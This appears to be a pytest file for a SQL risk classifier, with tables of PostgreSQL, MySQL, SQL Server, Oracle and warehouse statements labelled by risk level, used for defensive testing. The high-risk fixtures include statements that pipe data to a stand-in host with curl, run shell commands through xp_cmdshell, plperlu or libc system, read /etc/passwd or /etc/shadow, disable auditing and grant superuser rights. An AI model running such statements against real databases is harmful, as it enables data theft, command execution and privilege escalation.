"""Statements without a parse tree are judged by their leading words and the options that change the risk."""

import pytest

from workbench.domain.risk import RiskLevel
from workbench.facts.finding import Finding, medium
from workbench.facts.scope import Limits, Scope
from workbench.facts.sql.lex import tokenize
from workbench.facts.sql.read import read
from workbench.facts.sql.statements import claims, read_statement

_LEVELS = {"L": RiskLevel.LOW, "M": RiskLevel.MEDIUM, "H": RiskLevel.HIGH}


def _read(text: str, dialect: str, scope: Scope) -> list[Finding]:
    return [medium(dialect, text)] if dialect in {"bash", "python"} else read(text, dialect, scope)


def _findings(text: str, dialect: str) -> list[Finding]:
    return read_statement(tokenize(text, dialect) or [], text, dialect, Scope(_read, Limits(time_ms=5_000)))


def _risk(text: str, dialect: str) -> RiskLevel:
    return max((finding.risk for finding in _findings(text, dialect)), default=RiskLevel.LOW)


def _cases(table: str) -> list[tuple[str, str]]:
    return [(line[0], line[2:]) for line in table.strip().splitlines()]


POSTGRES = r"""
H GRANT SELECT ON ALL TABLES IN SCHEMA sales TO PUBLIC
H GRANT admin TO intern
M REVOKE ALL ON orders FROM intern
H CREATE ROLE reporting LOGIN PASSWORD 'x'
H CREATE USER mallory
M ALTER ROLE app SET work_mem = '64MB'
H ALTER ROLE app SUPERUSER
H ALTER ROLE app WITH PASSWORD 'new'
M ALTER ROLE app RENAME TO app2
H ALTER GROUP staff ADD USER mallory
H ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT ALL ON TABLES TO app
M ALTER DEFAULT PRIVILEGES IN SCHEMA s REVOKE ALL ON TABLES FROM app
M ALTER SYSTEM SET work_mem = '1GB'
H ALTER SYSTEM SET archive_command = 'curl -T %p https://evil.example/'
H ALTER SYSTEM SET shared_preload_libraries = 'x'
H ALTER SYSTEM SET log_statement = 'none'
H ALTER SYSTEM SET ssl = off
M ALTER DATABASE shop SET timezone = 'UTC'
H ALTER DATABASE shop OWNER TO mallory
H ALTER FUNCTION f(int) OWNER TO mallory
M ALTER FUNCTION f(int) IMMUTABLE
M CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
M CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN DELETE FROM t; RETURN NULL; END $$ LANGUAGE plpgsql
H CREATE FUNCTION sh(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c
H CREATE FUNCTION x() RETURNS text AS $$ import os; return os.popen('id').read() $$ LANGUAGE plpython3u
M CREATE FUNCTION m(a int, b int) RETURNS int AS $$ return max(a, b) $$ LANGUAGE plpython3u
H CREATE FUNCTION x() RETURNS text AS $$ return `id`; $$ LANGUAGE plperlu
H DO $$ system("id"); $$ LANGUAGE plperlu
M DO $$ plpy.notice("x") $$ LANGUAGE plpython3u
M CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()
M CREATE RULE r AS ON INSERT TO a DO INSTEAD NOTHING
H CREATE RULE r AS ON INSERT TO a DO ALSO DELETE FROM b
M CREATE EXTENSION hstore
H CREATE EXTENSION IF NOT EXISTS dblink
H CREATE EXTENSION plpython3u
M CREATE LANGUAGE plpgsql
H CREATE LANGUAGE plperlu
H CREATE USER MAPPING FOR app SERVER other OPTIONS (password 'x')
M CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw
M CREATE PUBLICATION p FOR TABLE a
M CREATE SUBSCRIPTION s CONNECTION 'host=a' PUBLICATION p
M ALTER SUBSCRIPTION s DISABLE
H ALTER EVENT TRIGGER audit DISABLE
M CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
M CREATE TYPE mood AS ENUM ('a', 'b')
M CREATE STATISTICS s ON a, b FROM t
H DROP OWNED BY app CASCADE
H REASSIGN OWNED BY app TO mallory
M VACUUM FULL orders
M ANALYZE orders
M CLUSTER orders USING orders_pkey
M REINDEX TABLE orders
M REFRESH MATERIALIZED VIEW v
M LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
M COMMENT ON TABLE orders IS 'DROP TABLE orders'
M SECURITY LABEL ON TABLE orders IS 'x'
L LISTEN news
L NOTIFY news, 'DROP TABLE orders'
L DISCARD ALL
L BEGIN
L START TRANSACTION
L ROLLBACK TO SAVEPOINT a
L COMMIT PREPARED 'x'
L FETCH 10 FROM c
L DECLARE c CURSOR FOR SELECT * FROM orders
H DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
L DEALLOCATE ALL
L SET search_path = a, b
L SET LOCAL statement_timeout = '5s'
L RESET ALL
L SHOW server_version
M SET ROLE admin
L RESET ROLE
M SET session_replication_role = replica
L SET session_replication_role = origin
H SET zero_damaged_pages = on
L SET zero_damaged_pages = off
M EXECUTE prepared_before(1)
M PREPARE p AS DELETE FROM orders WHERE id = $1
H PREPARE p AS DELETE FROM orders
M COPY orders FROM STDIN
M COPY orders FROM '/srv/in/orders.csv' CSV
H COPY t FROM '/etc/passwd'
H COPY orders TO PROGRAM 'curl -T - https://evil.example'
H COPY (SELECT 1) TO PROGRAM 'id'
M COPY orders TO STDOUT
L COPY (SELECT 1) TO STDOUT
M COPY (SELECT 1) TO '/tmp/x.csv'
H COPY (SELECT '<?php x') TO '/tmp/x.php'
H COPY (DELETE FROM orders RETURNING *) TO STDOUT
H COPY passwords TO '/tmp/x.csv'
M LOAD 'auto_explain'
H LOAD '/tmp/evil.so'
M CALL refresh_totals()
M IMPORT FOREIGN SCHEMA s FROM SERVER other INTO here
"""
MYSQL = r"""
H GRANT ALL ON *.* TO 'a'@'%'
M REVOKE INSERT ON shop.* FROM 'a'@'%'
H CREATE USER 'a'@'%' IDENTIFIED BY 'x'
H ALTER USER 'a'@'%' IDENTIFIED BY 'y'
M ALTER USER 'a'@'%' ACCOUNT LOCK
H SET PASSWORD FOR 'a'@'%' = 'x'
L SET NAMES utf8mb4
L SET @a = 1, @b = 'DROP TABLE t'
H SET @a = LOAD_FILE('/etc/passwd')
L SET SESSION sql_mode = ''
M SET GLOBAL max_connections = 500
H SET GLOBAL general_log = 'OFF'
M SET GLOBAL general_log = 'ON'
H SET GLOBAL local_infile = 1
H SET @@global.init_connect = 'x'
H SET sql_log_bin = 0
M SET foreign_key_checks = 0
L SET foreign_key_checks = 1
L SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
L SET STATEMENT max_statement_time = 1 FOR SELECT 1
H SET STATEMENT max_statement_time = 1 FOR DELETE FROM orders
L SHOW PROCESSLIST
M KILL 42
M FLUSH PRIVILEGES
M FLUSH TABLES WITH READ LOCK
H RESET MASTER
H PURGE BINARY LOGS BEFORE '2024-01-01'
H CHANGE MASTER TO MASTER_HOST = 'x'
M STOP REPLICA
H SHUTDOWN
H INSTALL PLUGIN p SONAME 'p.so'
H CREATE FUNCTION sys_exec RETURNS INT SONAME 'udf.so'
H CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM logs
M CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM logs WHERE id = 7
H CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW DELETE FROM b
M CREATE TRIGGER t BEFORE INSERT ON a FOR EACH ROW SET NEW.x = 1
H CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW BEGIN IF NEW.x THEN TRUNCATE TABLE b; END IF; END
M CREATE DEFINER = 'a'@'b' PROCEDURE p() DELETE FROM t
M LOAD DATA INFILE '/srv/in.csv' INTO TABLE t
H LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE t
H LOAD DATA INFILE '\\\\host\\share' INTO TABLE t
M OPTIMIZE TABLE t
M CHECK TABLE t
M REPAIR TABLE t
L CHECKSUM TABLE t
M LOCK TABLES t WRITE
L UNLOCK TABLES
L HANDLER t READ FIRST
L XA START 'x'
M RENAME TABLE a TO b
L DO SLEEP(1)
M ANALYZE TABLE t
H ANALYZE DELETE FROM t
L SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'DROP TABLE t'
H PREPARE p FROM 'TRUNCATE TABLE t'
L PREPARE p FROM 'SELECT 1'
H eval GRANT ALL ON *.* TO a
"""
MSSQL = r"""
L EXEC sp_who2
L EXEC sp_helptext 'dbo.p'
M EXEC dbo.LoadOrders @day = 1
M EXEC @rc = dbo.LoadOrders
L dbo.sp_help 'orders'
H EXEC xp_cmdshell 'dir'
H EXECUTE master..xp_cmdshell N'whoami'
L EXEC sp_configure
M EXEC sp_configure 'show advanced options', 1
H EXEC sp_configure 'xp_cmdshell', 1
M EXEC sp_configure 'xp_cmdshell', 0
H EXEC sp_addsrvrolemember 'a', 'sysadmin'
H EXEC sp_OACreate 'WScript.Shell', @o OUT
H EXEC xp_dirtree '\\10.0.0.1\x'
M EXEC sp_rename 'a', 'b'
L EXEC sp_executesql N'SELECT 1'
H EXEC sp_executesql @stmt = N'DROP TABLE orders'
L EXEC('SELECT ' + '1')
H EXEC('DROP ' + 'TABLE orders')
H EXEC(@sql)
H EXEC sp_MSforeachtable 'TRUNCATE TABLE ?'
H EXEC msdb.dbo.sp_add_jobstep @job_name = 'j', @subsystem = 'CmdExec', @command = 'del x'
H EXEC msdb.dbo.sp_add_jobstep @job_name = 'j', @subsystem = N'TSQL', @command = N'DELETE FROM t'
M EXEC msdb.dbo.sp_start_job 'j'
M EXECUTE AS USER = 'a'
H EXECUTE AS LOGIN = 'sa'
M RECONFIGURE
M BACKUP DATABASE shop TO DISK = 'D:\b\shop.bak'
H BACKUP DATABASE shop TO DISK = '\\10.0.0.1\x\shop.bak'
H BACKUP DATABASE shop TO URL = 'https://x.example/b'
H RESTORE DATABASE shop FROM DISK = 'D:\b\shop.bak' WITH REPLACE
L RESTORE HEADERONLY FROM DISK = 'D:\b\shop.bak'
M DBCC CHECKDB ('shop')
H DBCC CHECKDB ('shop', REPAIR_ALLOW_DATA_LOSS)
M DBCC FREEPROCCACHE
L DBCC SHOW_STATISTICS ('t', i)
M DBCC SHRINKFILE (1, 10)
M DENY SELECT ON t TO a
M KILL 55
M ALTER DATABASE shop SET COMPATIBILITY_LEVEL = 160
H ALTER DATABASE shop SET OFFLINE WITH ROLLBACK IMMEDIATE
H ALTER DATABASE shop SET TRUSTWORTHY ON
H ALTER SERVER AUDIT a WITH (STATE = OFF)
H ALTER SERVER ROLE sysadmin ADD MEMBER a
H ALTER ROLE db_owner ADD MEMBER a
M ALTER ROLE db_owner DROP MEMBER a
H ALTER LOGIN sa ENABLE
M ALTER LOGIN a DISABLE
H ALTER AUTHORIZATION ON DATABASE::shop TO a
H CREATE LOGIN a WITH PASSWORD = 'x'
H CREATE CREDENTIAL c WITH IDENTITY = 'a', SECRET = 'x'
H CREATE ASSEMBLY a FROM 0x4D5A
M CREATE TYPE t AS TABLE (a int)
M CREATE EXTERNAL DATA SOURCE e WITH (TYPE = BLOB_STORAGE, LOCATION = 'https://x.example')
H DISABLE TRIGGER t ON DATABASE
M UPDATE STATISTICS t
M BULK INSERT t FROM 'D:\in.csv'
H BULK INSERT t FROM '\\10.0.0.1\x\in.csv'
M WAITFOR DELAY '00:00:05'
L PRINT 'DROP TABLE t'
L RAISERROR('DROP TABLE t', 16, 1)
L USE shop
H SHUTDOWN WITH NOWAIT
L SET NOCOUNT ON
L DECLARE @a int = 1
"""
ORACLE = r"""
H GRANT DBA TO scott
H CREATE USER scott IDENTIFIED BY tiger
H ALTER USER scott IDENTIFIED BY tiger2
M ALTER USER scott ACCOUNT LOCK
H ALTER USER scott ACCOUNT UNLOCK
M ALTER USER scott QUOTA 10M ON users
L ALTER SESSION SET nls_date_format = 'YYYY'
M ALTER SYSTEM KILL SESSION '1,2'
M ALTER SYSTEM SET open_cursors = 500
H ALTER SYSTEM SET audit_trail = NONE SCOPE = SPFILE
H ALTER SYSTEM ENABLE RESTRICTED SESSION
H ALTER DATABASE NOARCHIVELOG
H ALTER DATABASE OPEN RESETLOGS
H NOAUDIT ALL
M AUDIT SELECT ON t
H PURGE RECYCLEBIN
M FLASHBACK TABLE t TO BEFORE DROP
H FLASHBACK DATABASE TO SCN 1
H CREATE DATABASE LINK l CONNECT TO a IDENTIFIED BY b USING 'x'
H CREATE OR REPLACE DIRECTORY d AS '/etc'
H CREATE LIBRARY l AS '/lib/libc.so'
M CREATE OR REPLACE PACKAGE BODY p AS PROCEDURE x IS BEGIN DELETE FROM t; END; END
M CREATE OR REPLACE AND RESOLVE JAVA SOURCE NAMED j AS class J {}
H CREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED j AS class J { void x() { Runtime.getRuntime().exec("id"); } }
H ALTER TRIGGER t DISABLE
M ALTER TRIGGER t ENABLE
L EXEC dbms_output.put_line('DROP TABLE t')
M EXEC dbms_stats.gather_table_stats('A', 'T')
H EXEC dbms_scheduler.create_job(job_name => 'j', job_type => 'EXECUTABLE', job_action => '/bin/sh')
H EXEC utl_http.request('http://x.example')
M EXEC my_pkg.do_it
L EXPLAIN PLAN FOR DELETE FROM t
L SET ROLE NONE
M LOCK TABLE t IN EXCLUSIVE MODE
H ADMINISTER KEY MANAGEMENT SET KEYSTORE CLOSE IDENTIFIED BY x
"""
OTHERS = r"""
sqlite L PRAGMA table_info(t)
sqlite L PRAGMA cache_size = 1000
sqlite L PRAGMA integrity_check
sqlite L PRAGMA foreign_key_list('t')
sqlite M PRAGMA journal_mode = OFF
sqlite M PRAGMA user_version = 3
sqlite H PRAGMA writable_schema = ON
sqlite L PRAGMA writable_schema = OFF
sqlite M ATTACH DATABASE 'other.db' AS o
sqlite H ATTACH DATABASE '/var/www/x.php' AS o
sqlite L DETACH DATABASE o
sqlite M VACUUM INTO 'copy.db'
sqlite M REINDEX t
sqlite H CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM b; END
sqlite M CREATE TRIGGER t AFTER DELETE ON a BEGIN DELETE FROM b WHERE id = old.id; END
snowflake M PUT file:///tmp/a.csv @stage
snowflake H GET @stage file:///tmp/
snowflake L LIST @stage
snowflake H REMOVE @stage PATTERN = '.*csv'
snowflake M COPY INTO t FROM @stage
snowflake M COPY INTO @stage FROM t
snowflake H COPY INTO 's3://bucket/x' FROM t
snowflake L ALTER SESSION SET timezone = 'UTC'
snowflake H ALTER ACCOUNT SET network_policy = open
snowflake M ALTER WAREHOUSE w SET warehouse_size = 'LARGE'
snowflake M EXECUTE TASK t
snowflake L EXECUTE IMMEDIATE 'SELECT 1'
snowflake H EXECUTE IMMEDIATE 'DROP TABLE t'
snowflake H CREATE SHARE s
snowflake H CREATE USER u TYPE = SERVICE
snowflake H CREATE TASK t WAREHOUSE = w AS DELETE FROM a
snowflake M UNDROP TABLE t
snowflake L USE ROLE analyst
bigquery H EXPORT DATA OPTIONS (uri = 'gs://b/*.csv') AS SELECT 1
bigquery M LOAD DATA INTO t FROM FILES (uris = ['gs://b/x'])
bigquery H LOAD DATA OVERWRITE t FROM FILES (uris = ['gs://b/x'])
bigquery M CREATE ROW ACCESS POLICY p ON t GRANT TO ('user:a@example.com') FILTER USING (x = 1)
bigquery L ASSERT (SELECT COUNT(*) FROM t) > 1
bigquery M CREATE RESERVATION r
bigquery M CALL d.p()
clickhouse H SYSTEM SHUTDOWN
clickhouse M OPTIMIZE TABLE t FINAL
databricks M VACUUM t RETAIN 168 HOURS
redshift H UNLOAD ('SELECT * FROM t') TO 's3://b/x'
"""


@pytest.mark.parametrize(("level", "text"), _cases(POSTGRES))
def test_postgres_statements(level: str, text: str) -> None:
    """What a PostgreSQL statement does, not what its strings mention, gives the risk."""
    assert _risk(text, "postgres") is _LEVELS[level]


@pytest.mark.parametrize(("level", "text"), _cases(MYSQL))
def test_mysql_statements(level: str, text: str) -> None:
    """MySQL's and MariaDB's own statements and settings are known."""
    assert _risk(text, "mysql") is _LEVELS[level]


@pytest.mark.parametrize(("level", "text"), _cases(MSSQL))
def test_sql_server_statements(level: str, text: str) -> None:
    """System procedures are judged by what they do, with their arguments; built text by what it says."""
    assert _risk(text, "mssql") is _LEVELS[level]


@pytest.mark.parametrize(("level", "text"), _cases(ORACLE))
def test_oracle_statements(level: str, text: str) -> None:
    """Supplied packages are judged by what they do; unknown routines are medium."""
    assert _risk(text, "oracle") is _LEVELS[level]


@pytest.mark.parametrize("case", OTHERS.strip().splitlines())
def test_statements_of_other_databases(case: str) -> None:
    """SQLite, warehouses and lake engines have statements of their own."""
    dialect, level, text = case.split(" ", 2)
    assert _risk(text, dialect) is _LEVELS[level]


@pytest.mark.parametrize(
    "text", ["FROBNICATE the widget", "DROP", "CREATE", "COPY", "SET", "EXEC", "PRAGMA", ")", "'a'"]
)
def test_odd_statements_are_never_low_by_accident(text: str) -> None:
    """What has no clear reading is unresolved or at least says something."""
    findings = _findings(text, "postgres")
    assert findings or text == "SET"


def test_an_unknown_verb_is_unresolved() -> None:
    """A verb outside every grammar is not guessed at."""
    assert all(finding.unresolved for finding in _findings("FROBNICATE the widget", "postgres"))


@pytest.mark.parametrize(
    ("text", "claimed"),
    [
        ("GRANT a TO b", True), ("VACUUM t", True), ("CREATE FUNCTION f() RETURNS int", True), ("CALL p()", True),
        ("CREATE OR REPLACE TRIGGER t", True), ("ALTER ROLE a LOGIN", True), ("ALTER SYSTEM SET a = 1", True),
        ("CREATE DATABASE LINK l", True), ("SELECT 1", False), ("CREATE TABLE t (a int)", False),
        ("ALTER TABLE t ADD a int", False), ("DELETE FROM t", False), ("DROP TABLE t", False), ("(SELECT 1)", False),
    ],
)  # fmt: skip
def test_claims(text: str, claimed: bool) -> None:
    """Statements with a useful tree are left to the reader of trees."""
    assert claims(tokenize(text, "postgres") or []) is claimed


@pytest.mark.parametrize(
    "unit", ["GRANT a TO b,", "EXEC p @x = (((", "SET @a = (", "COPY (", "'", "/*", "[", "$$", "CREATE TRIGGER "]
)
@pytest.mark.parametrize("dialect", ["postgres", "mysql", "mssql", "oracle", "snowflake"])
def test_hostile_sizes_are_answered(unit: str, dialect: str) -> None:
    """No text makes the reader raise or recurse without end."""
    text = unit * (40_000 // len(unit))
    assert isinstance(read_statement([], text, dialect, Scope(_read, Limits())), list)
